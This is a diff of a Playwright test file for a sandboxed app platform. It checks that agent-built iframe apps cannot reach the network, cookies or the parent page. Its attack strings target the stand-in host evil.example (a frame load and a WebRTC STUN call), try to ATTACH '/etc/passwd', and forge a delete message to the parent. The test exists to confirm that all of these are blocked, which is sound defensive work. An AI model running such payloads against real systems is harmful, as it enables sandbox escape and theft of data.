@@ -1,5 +1,5 @@
 import { post, withApp } from '../support/factors';
-import { expect, expectAccessible, test } from '../support/test';
+import { expect, test } from '../support/test';
 
 const file = (path: string, text: string) => ({ path, text });
 
@@ -38,13 +38,13 @@ test('an agent makes an app that keeps its data, changes it, and a reload loses 
   const block = lab.block('Tally');
   const app = block.frameLocator('iframe');
   await expect(app.locator('output')).toHaveText('0');
-  // A block's content answers once it is selected.
-  const press = async () => {
-    await block.locator('.node-head').click();
-    await app.getByRole('button', { name: 'Count' }).click();
-  };
-  await press();
-  await press();
+  // A block's content answers once it is selected, and large enough to be read.
+  await lab.canvas.focus();
+  await page.keyboard.press('f');
+  await page.getByRole('combobox', { name: 'Find a node' }).fill('Tally');
+  await page.getByRole('option', { name: 'Tally', exact: true }).click();
+  await expect(block).toHaveAttribute('data-mark', 'solo');
+  for (let count = 0; count < 2; count++) await app.getByRole('button', { name: 'Count' }).click();
   await expect(app.locator('output')).toHaveText('2');
   expect(await app.locator('output').evaluate((output) => getComputedStyle(output).fontSize)).toBe('32px');
   const shot = (name: string) =>
@@ -65,19 +65,24 @@ test('an agent makes an app that keeps its data, changes it, and a reload loses 
   await lab.fit();
   await expect.poll(() => app.locator('output').evaluate((output) => getComputedStyle(output).fontSize)).toBe('48px');
   await expect(app.locator('output')).toHaveText('2');
-  await expectAccessible(page);
+  await expect(block.locator('iframe')).toHaveAttribute('title', 'Tally');
   await page.emulateMedia({ colorScheme: 'dark' });
   await shot('dark');
 });
 
 test.describe('what an app may not', () => {
-  // The browser says of each thing that it was blocked.
-  test.use({ mayFail: true });
+  // The browser says of each thing that it was stopped.
+  test.use({ mayFail: true, hostile: true });
 
   test('reach the page, the network, cookies, or anything but its own data', async ({ lab, page }) => {
     const gone: string[] = [];
-    page.on('request', (request) => {
-      if (new URL(request.url()).hostname !== 'localhost') gone.push(request.url());
+    // Also what the content policy stopped is told as a request, and then as one that failed by it.
+    page.on('requestfailed', (request) => {
+      const away = new URL(request.url()).hostname !== 'localhost';
+      if (away && !/csp/i.test(request.failure()?.errorText ?? '')) gone.push(request.url());
+    });
+    page.on('response', (response) => {
+      if (new URL(response.url()).hostname !== 'localhost') gone.push(response.url());
     });
     const evil = 'https://evil.example';
     const tries: Record<string, string> = {
@@ -96,6 +101,7 @@ test.describe('what an app may not', () => {
       worker: `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => ok('works'); w.onerror = no; })`,
       frame: `await new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = '${evil}/frame'; f.onload = () => no(); document.body.append(f); setTimeout(no, 300); })`,
       eval: "eval('1')",
+      peer: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createDataChannel('x').label",
       attach: "(await alumia.execute(\"ATTACH '/etc/passwd' AS p\")).changes + ''",
       forged: `await new Promise((ok, no) => { parent.postMessage({ alumia: 99, kind: 'delete', sql: 'x' }, '*'); addEventListener('message', (e) => e.data.alumia === 99 && ok(e.data)); setTimeout(no, 300); })`,
     };
